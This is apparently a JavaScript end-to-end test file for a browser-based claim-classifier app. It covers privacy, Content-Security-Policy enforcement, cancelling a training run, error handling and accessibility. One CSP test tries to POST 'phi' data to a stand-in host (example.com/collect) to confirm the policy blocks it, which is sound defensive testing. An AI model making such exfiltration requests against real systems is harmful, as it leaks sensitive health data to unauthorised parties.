// End-to-end tests of the release build in headless Chromium, at / and under a sub-path:
// the walking skeleton's guarantees (privacy, CSP, cancel, errors, keyboard) on the workspace.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { generate, openApp, openScreen, trainAndReadAccuracy, useBrowser, waitForClaims } from './harness.mjs';

const SUB_PATH = '/claimforest/';
const env = useBrowser(['/', SUB_PATH]);

for (const base of ['/', SUB_PATH]) {
  describe(`served at ${base}`, () => {
    test('generates 1,000 claims and trains a forest to >= 0.93 accuracy, fetching nothing off-host', async () => {
      const { context, page, record } = await openApp(env.browser, env.urls[base]);
      await waitForClaims(page, '1,000');
      const accuracy = await trainAndReadAccuracy(page);
      assert.ok(accuracy >= 0.93, `accuracy ${accuracy}`);
      // The workers did the work on the page's own wasm module: their boot script came from
      // our origin, and the wasm was downloaded once (workers receive the compiled module).
      assert.ok(record.requests.some((u) => u.endsWith('worker_boot.js')), record.requests.join('\n'));
      assert.equal(record.requests.filter((u) => u.endsWith('.wasm')).length, 1, record.requests.join('\n'));
      assert.ok(record.requests.every((u) => u.startsWith(env.urls[base])), `left the app's path:\n${record.requests.join('\n')}`);
      assert.deepEqual(record.offHost, []);
      assert.deepEqual(record.consoleErrors, []);
      assert.deepEqual(await record.cspViolations(), []);
      await context.close();
    });
  });
}

test('the page carries a strict Content-Security-Policy, and the browser enforces it', async () => {
  const { context, page, record } = await openApp(env.browser, env.urls['/']);
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  for (const directive of ["default-src 'none'", "connect-src 'self'", "script-src 'self' 'wasm-unsafe-eval'"]) {
    assert.ok(csp.includes(directive), `CSP lacks ${directive}: ${csp}`);
  }
  assert.ok(!csp.includes("'unsafe-inline'") && !csp.includes("'unsafe-eval'"), csp);
  assert.equal(await page.locator('script:not([src])').count(), 0, 'no inline script');
  // An attempt to send data elsewhere is refused by the policy before any request is made.
  const outcome = await page.evaluate(() => fetch('https://example.com/collect', { method: 'POST', body: 'phi' }).then(() => 'sent', () => 'blocked'));
  assert.equal(outcome, 'blocked');
  assert.ok((await record.cspViolations()).some((v) => v.startsWith('connect-src')));
  assert.deepEqual(record.offHost, []);
  await context.close();
});

test('cancel stops a large training run; the page stays responsive, keeps the claims and trains again', async () => {
  const { context, page, record } = await openApp(env.browser, env.urls[SUB_PATH]);
  await generate(page, 200_000);
  await waitForClaims(page, '200,000');
  await openScreen(page, 'train');
  await page.getByTestId('train-button').click();
  const progress = page.getByTestId('train-progress');
  await progress.waitFor();
  assert.equal(await progress.getAttribute('role'), 'progressbar');
  // Wait until the worker has reported at least one tree: training is truly under way.
  await page.waitForFunction(() => Number(document.querySelector('[data-testid="train-progress"]')?.getAttribute('aria-valuenow')) >= 1, null, { timeout: 60_000 });
  // The main thread is free while the worker trains: typing lands at once.
  await page.getByTestId('n-trees-input').fill('20');
  assert.equal(await page.getByTestId('n-trees-input').inputValue(), '20');
  const percentBefore = Number(await progress.getAttribute('aria-valuenow'));
  assert.ok(percentBefore < 100, `training finished before cancel could be tested (${percentBefore}%)`);
  await page.getByTestId('cancel-button').click();
  await progress.waitFor({ state: 'detached' });
  await page.getByText('Training cancelled').waitFor();
  await openScreen(page, 'evaluation');
  assert.equal(await page.getByTestId('metric-accuracy').count(), 0, 'a cancelled run shows no metrics');
  // The claims survive in a fresh worker: 20 trees train on the same 200,000 claims.
  await waitForClaims(page, '200,000');
  const accuracy = await trainAndReadAccuracy(page);
  assert.ok(accuracy >= 0.90, `accuracy after recovery ${accuracy}`);
  assert.deepEqual(record.offHost, []);
  assert.deepEqual(record.consoleErrors, []);
  await context.close();
});

test('bad input shows the error banner and keeps the claims already loaded', async () => {
  const { context, page, record } = await openApp(env.browser, env.urls['/']);
  await waitForClaims(page, '1,000');
  await generate(page, 5);
  const banner = page.getByTestId('error-banner');
  await banner.waitFor();
  assert.match(await banner.textContent(), /Claims to generate: 5 is outside 100\.\.=1000000/);
  await waitForClaims(page, '1,000');
  assert.ok((await page.locator('[data-testid="preview-table"] tbody tr').count()) > 0);
  await page.getByRole('button', { name: 'Dismiss error' }).click();
  await banner.waitFor({ state: 'detached' });
  assert.deepEqual(record.consoleErrors, []);
  await context.close();
});

test('every control is labelled and reachable by keyboard', async () => {
  const { context, page } = await openApp(env.browser, env.urls['/']);
  // Every form control on every screen has a label.
  for (const slug of ['data', 'rules', 'train', 'results', 'evaluation', 'queue', 'summaries', 'whatif', 'files']) {
    await openScreen(page, slug);
    const unlabelled = await page.evaluate(() => [...document.querySelectorAll('input, select, textarea')]
      .filter((el) => !(el.labels?.length) && !el.getAttribute('aria-label'))
      .map((el) => el.id || el.outerHTML.slice(0, 60)));
    assert.deepEqual(unlabelled, [], `unlabelled controls on ${slug}`);
  }
  await openScreen(page, 'data');
  await page.getByTestId('tab-data').focus();
  const reached = new Set();
  for (let i = 0; i < 30; i += 1) {
    await page.keyboard.press('Tab');
    reached.add(await page.evaluate(() => document.activeElement?.getAttribute('data-testid')));
  }
  for (const id of ['tab-train', 'tab-results', 'scenario-select', 'generate-rows', 'seed-input', 'generate-button', 'file-input', 'join-input']) {
    assert.ok(reached.has(id), `${id} is not reachable with Tab (reached: ${[...reached].join(', ')})`);
  }
  await context.close();
});

test('at 390 px wide the file controls fit the screen and stay reachable', async () => {
  const { context, page, record } = await openApp(env.browser, env.urls['/']);
  await page.setViewportSize({ width: 390, height: 844 });
  const fits = async (testId) => page.evaluate((id) => {
    const box = document.querySelector(`[data-testid="${id}"]`).getBoundingClientRect();
    return box.width > 0 && box.left >= 0 && box.right <= window.innerWidth;
  }, testId);
  await openScreen(page, 'data');
  for (const id of ['drop-zone', 'join-input']) assert.ok(await fits(id), `${id} fits 390 px`);
  await openScreen(page, 'files');
  for (const id of ['batch-input', 'model-input', 'download-scored']) assert.ok(await fits(id), `${id} fits 390 px`);
  await page.getByTestId('tab-files').focus();
  const reached = new Set();
  for (let i = 0; i < 30; i += 1) {
    await page.keyboard.press('Tab');
    reached.add(await page.evaluate(() => document.activeElement?.getAttribute('data-testid')));
  }
  assert.ok(reached.has('model-input'), `model-input is reachable with Tab at 390 px (reached: ${[...reached].join(', ')})`);
  assert.deepEqual(record.offHost, []);
  assert.deepEqual(record.consoleErrors, []);
  await context.close();
});
